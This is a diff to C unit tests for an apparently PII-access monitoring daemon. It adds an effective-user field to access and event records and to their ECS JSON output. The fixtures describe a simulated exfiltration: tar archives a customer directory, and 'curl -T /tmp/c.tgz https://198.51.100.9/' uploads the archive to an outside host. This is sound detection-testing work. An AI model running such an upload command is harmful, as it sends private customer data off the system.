@@ -31,6 +31,7 @@ static void fill_access(struct pw_access *a)
 	a->open_flags = 0x8000;
 	snprintf(a->comm, sizeof(a->comm), "tar");
 	a->user = strdup("田中");
+	a->euser = strdup("root");
 	a->exe = strdup("/usr/bin/tar");
 	a->args = strdup("tar czf /tmp/x.tgz \"/srv/dms/cus tomers\" \\x0a");
 	a->ancestors = strdup(CHAIN);
@@ -83,6 +84,7 @@ static void assert_access_equal(const struct pw_access *x, const struct pw_acces
 	assert_int_equal(x->open_flags, y->open_flags);
 	assert_string_equal(x->comm, y->comm);
 	assert_str_or_null_equal(x->user, y->user);
+	assert_str_or_null_equal(x->euser, y->euser);
 	assert_str_or_null_equal(x->exe, y->exe);
 	assert_str_or_null_equal(x->args, y->args);
 	assert_str_or_null_equal(x->ancestors, y->ancestors);
@@ -135,12 +137,13 @@ static void test_access_roundtrip(void **state)
 	pw_access_free_strings(&in);
 	fill_access(&in);
 	free(in.user);
+	free(in.euser);
 	free(in.exe);
 	free(in.args);
 	free(in.service);
 	free(in.rhost);
 	free(in.ancestors);
-	in.user = in.exe = in.args = in.service = in.rhost = in.ancestors = NULL;
+	in.user = in.euser = in.exe = in.args = in.service = in.rhost = in.ancestors = NULL;
 	in.comm[0] = '\0';
 	in.closed_ns = 0;
 	in.audit_session = PW_NO_ID;
@@ -277,6 +280,7 @@ static void test_access_line_matches_json_c(void **state)
 		a.open_flags = (uint32_t)next_rand(&x);
 		snprintf(a.comm, sizeof(a.comm), "%s", comm ? comm : "");
 		a.user = dup_or_null(pick_str(&x));
+		a.euser = dup_or_null(pick_str(&x));
 		a.exe = dup_or_null(pick_str(&x));
 		a.args = dup_or_null(pick_str(&x));
 		a.dataset = dup_or_null(pick_str(&x));
@@ -341,6 +345,7 @@ static void test_access_ecs_names(void **state)
 	assert_string_equal(str_at(o, "process.name"), "tar");
 	assert_string_equal(str_at(o, "process.executable"), "/usr/bin/tar");
 	assert_string_equal(str_at(o, "process.user.id"), "0");
+	assert_string_equal(str_at(o, "process.user.name"), "root");
 	assert_string_equal(str_at(o, "file.path"), "/srv/dms/customers/zz_vip_customers.csv");
 	assert_string_equal(str_at(o, "file.inode"), "1234567");
 	assert_string_equal(str_at(o, "file.device"), "8:1");
@@ -608,6 +613,7 @@ static void fill_event(struct pw_event_rec *e, const char *kind)
 	e->pid = 5301;
 	e->ppid = 5290;
 	e->user = "田中";
+	e->euser = "root";
 	e->comm = "curl";
 	e->exe = "/usr/bin/curl";
 	e->args = "curl -T /tmp/c.tgz https://198.51.100.9/";
@@ -626,6 +632,7 @@ static void assert_event_equal(const struct pw_event_rec *x, const struct pw_eve
 	assert_int_equal(x->pid, y->pid);
 	assert_int_equal(x->ppid, y->ppid);
 	assert_str_or_null_equal(x->user, y->user);
+	assert_str_or_null_equal(x->euser, y->euser);
 	assert_str_or_null_equal(x->comm, y->comm);
 	assert_str_or_null_equal(x->exe, y->exe);
 	assert_str_or_null_equal(x->args, y->args);
@@ -696,6 +703,7 @@ static void test_event_roundtrip(void **state)
 	e.audit_session = PW_NO_ID;
 	e.session_id = 0;
 	e.user = NULL;
+	e.euser = NULL;
 	roundtrip_event(&e);
 
 	fill_event(&e, "mmap");
@@ -712,7 +720,7 @@ static void test_event_roundtrip(void **state)
 	fill_event(&e, "loss");
 	e.action = "ring-full";
 	e.count = 1234;
-	e.exe = e.args = e.user = e.ancestors = NULL;
+	e.exe = e.args = e.user = e.euser = e.ancestors = NULL;
 	e.comm = "piiwatchd";
 	o = pw_ecs_from_event(&e, NULL, BOOT);
 	assert_string_equal(str_at(o, "event.category"), "[ \"host\" ]");
